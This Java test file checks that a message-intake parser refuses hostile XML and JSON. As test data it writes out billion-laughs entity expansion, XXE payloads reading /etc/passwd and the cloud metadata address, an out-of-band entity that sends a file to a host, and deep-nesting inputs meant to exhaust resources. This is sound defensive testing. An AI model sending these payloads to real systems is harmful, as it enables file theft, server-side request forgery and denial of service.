package io.communitycloud.exchange.intake.format;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.communitycloud.common.web.InvalidRequest;
import io.communitycloud.common.web.UnreadableBody;
import io.communitycloud.exchange.intake.format.Column.Kind;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Messages in XML and JSON, and those that only look like some. */
class HostileMessagesTest {

    private static final Layout EVENTS = new Layout(
            Layout.Format.XML,
            null,
            null,
            null,
            "Event",
            List.of(
                    new Column("EventNo", "eventNumber", Kind.TEXT, null, null, true, 64),
                    new Column("HappenTime", "happenedAt", Kind.TIME, null, null, null, null)),
            "eventNumber",
            3,
            null);
    private static final Layout TASKS = new Layout(
            Layout.Format.JSON,
            null,
            null,
            null,
            "tasks",
            List.of(new Column("taskId", "taskId", Kind.TEXT, null, null, true, 64)),
            "taskId",
            3,
            null);
    private static final String ONE =
            "<Event><EventNo>E1</EventNo><HappenTime>2026-11-20T08:30:00</HappenTime></Event>";

    @Test
    void readsOneEventAndManyInAnEnvelopeAndWithout() {
        for (String message : List.of(
                "<Push><BatchNo>B</BatchNo>" + ONE + "</Push>",
                "<e:Envelope xmlns:e=\"http://www.w3.org/2003/05/soap-envelope\"><e:Header/><e:Body><Push><BatchNo>B</BatchNo>"
                        + ONE + "</Push></e:Body></e:Envelope>")) {
            RowsRead read = new RowsRead();
            JsonNode said = Reading.message(utf8(message), EVENTS, JsonMapper.shared(), read);
            assertThat(said.path("BatchNo").asString()).isEqualTo("B");
            assertThat(read.cells(1))
                    .containsEntry("eventNumber", "E1")
                    .containsEntry("happenedAt", "2026-11-20T08:30:00+08:00");
        }
        RowsRead two = new RowsRead();
        Reading.message(utf8("<Push>" + ONE + "<Event/>" + "</Push>"), EVENTS, JsonMapper.shared(), two);
        assertThat(two.rows).hasSize(2);
        assertThat(two.problems()).containsExactly("2  not-a-row");
    }

    @TestFactory
    Stream<DynamicTest> anXmlMessageThatSwellsOrReadsFromElsewhereIsRefused() {
        Map<String, byte[]> messages = new LinkedHashMap<>();
        StringBuilder laughs = new StringBuilder("<!DOCTYPE x [<!ENTITY a \"ha\">");
        for (char each = 'b'; each <= 'i'; each++) {
            laughs.append("<!ENTITY ").append(each).append(" \"");
            laughs.append(("&" + (char) (each - 1) + ";").repeat(10)).append("\">");
        }
        laughs.append("]>");
        messages.put("a billion laughs", utf8(laughs + "<Push>&i;</Push>"));
        messages.put(
                "a billion laughs in UTF-16",
                ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + laughs + "<Push>&i;</Push>")
                        .getBytes(StandardCharsets.UTF_16));
        messages.put(
                "one entity, a hundred thousand times",
                utf8("<!DOCTYPE x [<!ENTITY a \"" + "x".repeat(10_000) + "\">]><Push>" + "&a;".repeat(100_000)
                        + "</Push>"));
        messages.put(
                "a file of ours", utf8("<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><Push>&a;</Push>"));
        messages.put(
                "an address inside",
                utf8("<!DOCTYPE x [<!ENTITY a SYSTEM \"http://169.254.169.254/latest/\">]><Push>&a;</Push>"));
        messages.put(
                "a definition from elsewhere",
                utf8("<!DOCTYPE x SYSTEM \"http://127.0.0.1:1/x.dtd\"><Push>" + ONE + "</Push>"));
        messages.put(
                "a parameter that sends a file away",
                utf8("<!DOCTYPE x [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % e \"<!ENTITY s SYSTEM "
                        + "'http://127.0.0.1:1/?%f;'>\"> %e;]><Push>&s;</Push>"));
        messages.put("an entity of nobody", utf8("<Push>&nobody;</Push>"));
        messages.put("elements without end", utf8("<a>".repeat(200_000)));
        messages.put("elements a hundred thousand deep", utf8("<a>".repeat(100_000) + "</a>".repeat(100_000)));
        messages.put("elements a hundred deep", utf8("<a>".repeat(100) + "</a>".repeat(100)));
        messages.put("attributes without end", utf8("<Push " + attributes(100_000) + "/>"));
        messages.put("a name of a million letters", utf8("<" + "a".repeat(1_000_000) + "/>"));
        messages.put("more than anybody says", utf8("<Push>" + " ".repeat(3_000_000) + ONE + "</Push>"));
        messages.put("two bodies", utf8("<Envelope><Body><a/><b/></Body></Envelope>"));
        messages.put("an envelope without a body", utf8("<Envelope><Header/></Envelope>"));
        messages.put("what is no XML", utf8("{\"tasks\":[]}"));
        messages.put("nothing", new byte[0]);
        messages.put("bytes", new byte[] {0, 1, 2, 3});
        messages.put("an encoding of old", "<Push/>".getBytes(Charset.forName("IBM037")));
        return messages.entrySet().stream()
                .flatMap(message -> Stream.of(
                        DynamicTest.dynamicTest(message.getKey(), () -> malformed(message.getValue())),
                        DynamicTest.dynamicTest(
                                message.getKey() + ", as a warning",
                                () -> assertThatThrownBy(() -> CapReading.read(message.getValue()))
                                        .isInstanceOf(InvalidRequest.class))));
    }

    @Test
    void refusesMoreRowsThanWereAgreedAndNoneAtAll() {
        for (String rows : List.of("", ONE.repeat(4), "<Event/>".repeat(100_000))) {
            assertThatThrownBy(() -> Reading.message(
                            utf8("<Push>" + rows + "</Push>"), EVENTS, JsonMapper.shared(), new RowsRead()))
                    .isInstanceOf(InvalidRequest.class);
        }
    }

    @TestFactory
    Stream<DynamicTest> aJsonMessageThatSwellsIsRefused() {
        Map<String, String> messages = new LinkedHashMap<>();
        messages.put("arrays a hundred thousand deep", "[".repeat(100_000));
        messages.put("objects a hundred thousand deep", "{\"a\":".repeat(100_000));
        messages.put("rows a thousand deep", "{\"tasks\":" + "[".repeat(1_000) + "]".repeat(1_000) + "}");
        messages.put("a number of a million digits", "{\"tasks\":[{\"taskId\":" + "9".repeat(1_000_000) + "}]}");
        messages.put("a name of a million letters", "{\"" + "a".repeat(1_000_000) + "\":1}");
        messages.put("a text that never ends", "{\"tasks\":\"" + "x".repeat(1_000_000));
        messages.put("rows without end", "{\"tasks\":[" + "{},".repeat(100_000) + "{}]}");
        messages.put("two values", "{\"tasks\":[]} {\"tasks\":[]}");
        messages.put("a remark", "{\"tasks\":[/* */{\"taskId\":\"1\"}]}");
        messages.put("no number", "{\"tasks\":[{\"taskId\":NaN}]}");
        return messages.entrySet().stream()
                .map(message -> DynamicTest.dynamicTest(
                        message.getKey(),
                        () -> assertThatThrownBy(() -> Reading.message(
                                        utf8(message.getValue()), TASKS, JsonMapper.shared(), new RowsRead()))
                                .isInstanceOfAny(InvalidRequest.class, UnreadableBody.class)));
    }

    private static void malformed(byte[] message) {
        assertThatThrownBy(() -> Reading.message(message, EVENTS, JsonMapper.shared(), new RowsRead()))
                .isInstanceOf(InvalidRequest.class);
    }

    private static String attributes(int count) {
        StringBuilder attributes = new StringBuilder();
        for (int i = 0; i < count; i++) {
            attributes.append('a').append(i).append("=\"\" ");
        }
        return attributes.toString();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
